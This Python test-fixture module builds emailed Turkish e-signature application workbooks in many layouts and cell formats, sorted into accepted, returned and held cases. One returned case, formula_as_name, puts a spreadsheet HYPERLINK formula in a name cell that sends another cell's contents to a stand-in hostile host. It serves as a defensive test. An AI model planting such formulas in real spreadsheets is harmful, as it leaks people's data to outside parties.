"""Lists laid out in every way that people lay them out, and cells written in every way."""

from __future__ import annotations

from dataclasses import replace
from datetime import date

from tests.letters import Letters, list_of, writes
from tests.mails import XLS, XLSX, Envelope, Sender, at, attached, mail, mixed, plain
from tests.people import UNITS, person
from tests.workbooks import (
    BARE,
    OFFICIAL,
    OFFICIAL_COLUMNS,
    Fields,
    Grid,
    entry,
    filled,
    official,
    renamed,
    without,
    xls,
    xlsx,
)

FULL_WIDTH = str.maketrans("0123456789", "０１２３４５６７８９")


def _sends(name: str, sent: tuple[str, str], workbook: bytes, words: str = "") -> bytes:
    who = person(name)
    text = f"Merhaba,\n\n{words or 'Kayıp e-imza başvuru formum ektedir, iyi çalışmalar.'}\n\n{who.name}\n"
    is_xlsx = workbook.startswith(b"PK")
    form = attached(workbook, XLSX, "liste.xlsx") if is_xlsx else attached(workbook, XLS, "liste.xls")
    return mail(Envelope(writes(who), "Kayıp e-imza başvurusu", at(*sent)), mixed(plain(text), form))


def _office_sends(unit: str, sent: tuple[str, str], workbook: bytes) -> bytes:
    domain, name = UNITS[unit]
    office = Sender("Personel Birimi", f"personel@{domain}")
    words = f"Sayın ilgili,\n\nKayıp/çalıntı e-imza başvuru listemiz ektedir.\n\n{name}\nPersonel Birimi\n"
    is_xlsx = workbook.startswith(b"PK")
    form = attached(workbook, XLSX, "liste.xlsx") if is_xlsx else attached(workbook, XLS, "liste.xls")
    return mail(Envelope(office, "Kayıp e-imza listesi", at(*sent)), mixed(plain(words), form))


# --- accepted: the table -------------------------------------------------------------------------


def bare_table() -> bytes:
    """Nothing but headings and one row: no title, legend or signature."""
    return _sends(
        "Aslıhan Zeytinburcu",
        ("2024-06-03", "09:00"),
        xlsx(filled(BARE, [entry(person("Aslıhan Zeytinburcu"))])),
    )


def two_line_headings() -> bytes:
    """Two-line headings: merged parents over the certificate's and the reader's columns."""
    columns = renamed(OFFICIAL_COLUMNS, kind="Türü", card_reader="Türü")
    form = replace(
        OFFICIAL,
        columns=columns,
        parents=(
            (1, 6, "SERTİFİKA SAHİBİNİN"),
            (7, 9, "Başvuru"),
            (10, 12, "Akıllı Kart Okuyucu"),
        ),
    )
    return _sends(
        "Gizem Kırlangıçlı",
        ("2024-06-03", "09:20"),
        xlsx(filled(form, [entry(person("Gizem Kırlangıçlı"))])),
    )


def moved_columns() -> bytes:
    """The columns stand in another order: family name first, identity number in the middle."""
    moved = dict(OFFICIAL_COLUMNS)
    order = (
        *("number", "family_name", "given_name", "workplace", "work_email", "identity_number", "born_on"),
        *("term_years", "card_reader", "kind", "payment", "note"),
    )
    form = replace(OFFICIAL, columns=tuple((name, moved[name]) for name in order), legend=())
    return _sends(
        "Tolga Ballıkayalı",
        ("2024-06-03", "09:45"),
        xls(filled(form, [entry(person("Tolga Ballıkayalı"))])),
    )


def missing_optional_columns() -> bytes:
    """The columns nobody fills in were deleted: running number, explanations, spares, VPN, note."""
    columns = without(
        OFFICIAL_COLUMNS,
        *("number", "kind_note", "spare", "reader_note", "spare_reader", "vpn", "payment", "note"),
    )
    form = replace(OFFICIAL, columns=columns, numbered_rows=0, legend=())
    return _sends(
        "Emine Büşra Karagülle",
        ("2024-06-03", "10:05"),
        xls(filled(form, [entry(person("Emine Büşra Karagülle"))])),
    )


def added_columns() -> bytes:
    """The unit's own columns stand between: title, mobile number, end of the old certificate."""
    columns = (
        *OFFICIAL_COLUMNS[:4],
        ("title", "Unvanı"),
        ("mobile", "Cep Telefonu"),
        *OFFICIAL_COLUMNS[4:],
        ("expiry", "NES Bitim Tarihi"),
    )
    form = replace(OFFICIAL, columns=columns)
    row = entry(person("Volkan Denizaşan"), title="Eczacı", mobile="0500 000 00 00", expiry=date(2025, 3, 1))
    return _sends("Volkan Denizaşan", ("2024-06-03", "10:30"), xls(filled(form, [row])))


def other_headings() -> bytes:
    """Every heading goes by another of its usual names."""
    columns = renamed(
        OFFICIAL_COLUMNS,
        number="S.N.",
        identity_number="T.C. KİMLİK NUMARASI",
        given_name="ADI",
        family_name="SOYADI",
        born_on="DOĞUM TARİHİ (GÜN/AY/YIL)",
        work_email="E-POSTA ADRESİ",
        workplace="ÇALIŞTIĞI BİRİMİ",
        kind="BAŞVURU NEDENİ",
        card_reader="KART OKUYUCU TİPİ",
        term_years="SERTİFİKA SÜRESİ",
        payment="ÖDEME",
    )
    form = replace(OFFICIAL, columns=columns, title=("E-İMZA KAYIP LİSTESİ",), legend=())
    return _sends(
        "Filiz Yaylacıklı",
        ("2024-06-03", "11:00"),
        xls(filled(form, [entry(person("Filiz Yaylacıklı"))])),
    )


def _with_combined_names() -> tuple[tuple[str, str], ...]:
    columns = without(OFFICIAL_COLUMNS, "family_name")
    return tuple(("name", "Adı Soyadı") if name == "given_name" else (name, text) for name, text in columns)


def combined_name_column() -> bytes:
    """Given and family name in one column; two words leave no doubt."""
    form = replace(OFFICIAL, columns=_with_combined_names())
    return _sends(
        "Serkan İğdeliler",
        ("2024-06-03", "11:25"),
        xls(filled(form, [entry(person("Serkan İğdeliler"))])),
    )


def combined_name_in_capitals() -> bytes:
    """One name column with three words, the family name in capitals."""
    form = replace(OFFICIAL, columns=_with_combined_names())
    row = entry(person("Murat Can Ağaçdiken"), name="Murat Can AĞAÇDİKEN")
    return _sends("Murat Can Ağaçdiken", ("2024-06-03", "11:50"), xls(filled(form, [row])))


def second_sheet() -> bytes:
    """The first sheet explains how to fill in; the list is on the second."""
    how = Grid(
        "Açıklama",
        (
            ("FORM-001-003 NASIL DOLDURULUR?",),
            ("1- T.C. Kimlik No 11 hane olarak yazılır.",),
            ("2- Ad ve Soyad kimlikteki gibi yazılır.",),
            ("3- Başvuru Türü: 1- İlk  2- Kayıp/Çalıntı  3- Yenileme  4- Diğer",),
        ),
    )
    return _sends(
        "Rabia Üçpınarlı", ("2024-06-04", "08:50"), xls(how, official(entry(person("Rabia Üçpınarlı"))))
    )


def lists_on_two_sheets() -> bytes:
    """One sheet per colleague, both filled in."""
    one, two = person("Hakan Gözübüyükler"), person("Cihan Yüksekyaylalı")
    sheets = [filled(replace(OFFICIAL, sheet=who.given_name), [entry(who)]) for who in (one, two)]
    return _office_sends("adsm", ("2024-06-04", "09:10"), xlsx(*sheets))


def hidden_sheets() -> bytes:
    """A hidden sheet with code lists, and a hidden old list with other people, who did not apply."""
    who, earlier = person("Doğukan Ortaköylügil"), person("Taner Müezzinzade")
    codes = Grid(
        "Kodlar", (("Kod", "Başvuru Türü"), (1, "İlk"), (2, "Kayıp/Çalıntı"), (3, "Yenileme")), visible=False
    )
    old = replace(filled(replace(OFFICIAL, sheet="2023"), [entry(earlier)]), visible=False)
    return _sends("Doğukan Ortaköylügil", ("2024-06-04", "09:35"), xls(official(entry(who)), codes, old))


def hidden_columns() -> bytes:
    """The columns nobody fills in are hidden, and so is the running number."""
    grid = replace(official(entry(person("Esma Kızılçamlı"))), hidden_columns=(0, 8, 9, 11, 12, 13))
    return _sends("Esma Kızılçamlı", ("2024-06-04", "10:00"), xlsx(grid))


def numbered_empty_rows() -> bytes:
    """A hundred rows carry a running number and the codes beforehand; one is filled in."""
    who = person("Sevgi Pınarbaşılı")
    empty: list[Fields] = [{"kind": 2, "card_reader": 3, "term_years": 3, "payment": "Kişi"}] * 100
    form = replace(OFFICIAL, numbered_rows=0)
    return _sends(who.name, ("2024-06-04", "10:25"), xls(filled(form, [entry(who), *empty])))


def rows_with_gaps() -> bytes:
    """Two people with an empty row between them."""
    one, two = person("Canan Şahinbaşlı"), person("Gönül Harmancılar")
    grid = filled(replace(OFFICIAL, numbered_rows=0), [entry(one), {"number": None}, entry(two, number=2)])
    return _office_sends("ilce1", ("2024-06-04", "10:50"), xls(grid))


def two_lists_in_one_mail() -> bytes:
    """One workbook per colleague in a single mail."""
    one, two = person("Uğur Beşikdüzlü"), person("Cüneyt İpekçioğlu")
    office = Sender("Destek Hizmetleri", "destek@saglik.example.org")
    words = "Merhaba, iki personelimizin kayıp e-imza formları ayrı ayrı ektedir.\n\nDestek Hizmetleri\n"
    forms = [attached(list_of(who), XLS, f"{who.file_name}.xls") for who in (one, two)]
    envelope = Envelope(office, "kayıp e-imza 2 form", at("2024-06-04", "11:15"))
    return mail(envelope, mixed(plain(words), *forms))


def twin_rows() -> bytes:
    """The same person stands twice in one list, with the same data: one application."""
    row = entry(person("Alper Tütüncügil"))
    return _sends("Alper Tütüncügil", ("2024-06-04", "11:40"), xls(official(row, row)))


# --- accepted: the cells -------------------------------------------------------------------------


def dates_from_1904() -> bytes:
    """A workbook from an old Mac, which counts its days from 1904."""
    grid = official(entry(person("Meryem İncesulu")))
    return _sends("Meryem İncesulu", ("2024-06-05", "09:00"), xls(grid, dates_from_1904=True))


def text_dates() -> bytes:
    """Birth dates as text, each written in another way: 3.11.1969, 23-10-1993, 22 Nisan 1975."""
    rows = [
        entry(person("Onur Kestanelik"), born_on="3.11.1969"),
        entry(person("Kadir Oyluklu"), born_on="23-10-1993"),
        entry(person("Nazlı Gül Erğin"), born_on="22 Nisan 1975"),
    ]
    return _office_sends("hastane2", ("2024-06-05", "09:25"), xls(official(*rows)))


def numbers_as_floats() -> bytes:
    """Excel made numbers of the identity number and the codes."""
    who = person("Sibel Ardıçlıoğlu")
    row = entry(who, identity_number=float(who.identity_number), kind=2.0, card_reader=3.0, term_years=3.0)
    return _sends(who.name, ("2024-06-05", "09:50"), xls(official(row)))


def numbers_with_trimmings() -> bytes:
    """Identity numbers with a prefix, blanks, no-break spaces and an apostrophe that was typed."""
    one, two = person("Yasemin Gülümserler"), person("Şule Akıncıtürk")
    three = person("Ülkü Gümüşdişli")
    spaced = " ".join((two.identity_number[:3], two.identity_number[3:6], two.identity_number[6:]))
    rows = [
        entry(one, identity_number=f"TC: {one.identity_number}"),
        entry(two, identity_number=f"\u00a0{spaced} "),
        entry(three, identity_number=f"'{three.identity_number}"),
    ]
    return _office_sends("hastane3", ("2024-06-05", "10:15"), xls(official(*rows)))


def full_width_digits() -> bytes:
    """The identity number came out of a copier's OCR in full-width digits."""
    who = person("Erdem Bozkırlıgil")
    row = entry(who, identity_number=who.identity_number.translate(FULL_WIDTH))
    return _sends(who.name, ("2024-06-05", "10:40"), xlsx(official(row)))


def careless_names() -> bytes:
    """Names in lower case and capitals mixed, with blanks around and a decomposed İ."""
    who = person("Nilüfer Sazlıdereli")
    row = entry(
        who,
        given_name="  nilu\u0308fer ",
        family_name="SAZLIDERELI\u0307",
        work_email=f" {who.work_email.upper()} ",
        workplace=f"{who.workplace}\n",
    )
    return _sends(who.name, ("2024-06-05", "11:05"), xlsx(official(row)))


def codes_as_text() -> bytes:
    """Codes typed as text, with blanks and points: "2 ", "2.0", "3 yıl", "-"."""
    who = person("Nihat Özdoğruer")
    row = entry(who, kind="2.0", card_reader="-", term_years="3 yıl ", payment="kişi ödemeli")
    return _sends(who.name, ("2024-06-05", "11:30"), xls(official(row)))


# --- returned ------------------------------------------------------------------------------------


def missing_column() -> bytes:
    """The column of the birth date was deleted."""
    who = person("Levent Söğütlüdere")
    form = replace(OFFICIAL, columns=without(OFFICIAL_COLUMNS, "born_on"))
    return _sends(who.name, ("2024-06-06", "09:00"), xls(filled(form, [entry(who)])))


def combined_name_in_doubt() -> bytes:
    """One name column with three words: which of them is the family name?"""
    who = person("İsmail Hakkı Tepecikli")
    form = replace(OFFICIAL, columns=_with_combined_names())
    return _sends(who.name, ("2024-06-06", "09:25"), xls(filled(form, [entry(who)])))


def scientific_number() -> bytes:
    """The identity number was saved as 4,14764E+10: its digits are lost."""
    who = person("Işıl Ağırbaşlı")
    row = entry(who, identity_number="4,14764E+10")
    return _sends(who.name, ("2024-06-06", "09:50"), xls(official(row)))


def abbreviated_name() -> bytes:
    """The first given name is abbreviated: M. Şükrü."""
    who = person("Mehmet Şükrü İnanöz")
    return _sends(who.name, ("2024-06-06", "10:15"), xls(official(entry(who, given_name="M. Şükrü"))))


def formula_as_name() -> bytes:
    """A formula that would fetch a web page stands where the name should."""
    who = person("Kadir Oyluklu")
    row = entry(who, given_name='=HYPERLINK("http://kotu.invalid/?"&B6,"Kadir")')
    return _sends(who.name, ("2024-06-06", "10:40"), xls(official(row)))


def formulas_not_calculated() -> bytes:
    """Names and e-mail are formulas that no program ever calculated: there are no values."""
    who = person("Sinan Eskiçırak")
    row = entry(who, given_name="=Personel!B2", family_name="=Personel!C2", work_email="=Personel!F2")
    return _sends(who.name, ("2024-06-06", "11:05"), xlsx(official(row)))


def code_and_word_differ() -> bytes:
    """The kind says 2-Yenileme: the code and the word contradict each other."""
    who = person("Özgür Hatipkaya")
    return _sends(who.name, ("2024-06-06", "11:30"), xls(official(entry(who, kind="2-Yenileme"))))


def kind_other() -> bytes:
    """Kind 4 (other) with "chip broken" beside it: nothing was lost."""
    who = person("Ilgın Karasulu")
    row = entry(who, kind=4, kind_note="çip okunmuyor, kart arızalı")
    return _sends(who.name, ("2024-06-06", "13:40"), xls(official(row)))


def paid_by_institution() -> bytes:
    """Ödeme Şekli says Kurum; lost or stolen is always paid by the holder."""
    who = person("Recep Büyükırmak")
    return _sends(who.name, ("2024-06-06", "14:05"), xls(official(entry(who, payment="Kurum"))))


# --- held ----------------------------------------------------------------------------------------


def hidden_row() -> bytes:
    """A filter hides one of two filled rows: whether that person applies too, nobody can tell."""
    shown, filtered = person("Hülya Şimşekoğlu"), person("Barış Tunahanlı")
    grid = replace(official(entry(shown), entry(filtered)), hidden_rows=(6,))
    return _office_sends("hastane1", ("2024-06-07", "09:00"), xlsx(grid))


def five_year_term() -> bytes:
    """A five-year certificate is asked for, which lost-or-stolen normally does not get."""
    who = person("Kâzım Alıçlı")
    return _sends(who.name, ("2024-06-07", "09:25"), xls(official(entry(who, term_years=5))))


LETTERS: Letters = {
    "accepted/bare-table": bare_table,
    "accepted/two-line-headings": two_line_headings,
    "accepted/moved-columns": moved_columns,
    "accepted/missing-optional-columns": missing_optional_columns,
    "accepted/added-columns": added_columns,
    "accepted/other-headings": other_headings,
    "accepted/combined-name-column": combined_name_column,
    "accepted/combined-name-in-capitals": combined_name_in_capitals,
    "accepted/second-sheet": second_sheet,
    "accepted/lists-on-two-sheets": lists_on_two_sheets,
    "accepted/hidden-sheets": hidden_sheets,
    "accepted/hidden-columns": hidden_columns,
    "accepted/numbered-empty-rows": numbered_empty_rows,
    "accepted/rows-with-gaps": rows_with_gaps,
    "accepted/two-lists-in-one-mail": two_lists_in_one_mail,
    "accepted/twin-rows": twin_rows,
    "accepted/dates-from-1904": dates_from_1904,
    "accepted/text-dates": text_dates,
    "accepted/numbers-as-floats": numbers_as_floats,
    "accepted/numbers-with-trimmings": numbers_with_trimmings,
    "accepted/full-width-digits": full_width_digits,
    "accepted/careless-names": careless_names,
    "accepted/codes-as-text": codes_as_text,
    "returned/missing-column": missing_column,
    "returned/combined-name-in-doubt": combined_name_in_doubt,
    "returned/scientific-number": scientific_number,
    "returned/abbreviated-name": abbreviated_name,
    "returned/formula-as-name": formula_as_name,
    "returned/formulas-not-calculated": formulas_not_calculated,
    "returned/code-and-word-differ": code_and_word_differ,
    "returned/kind-other": kind_other,
    "returned/paid-by-institution": paid_by_institution,
    "held/hidden-row": hidden_row,
    "held/five-year-term": five_year_term,
}
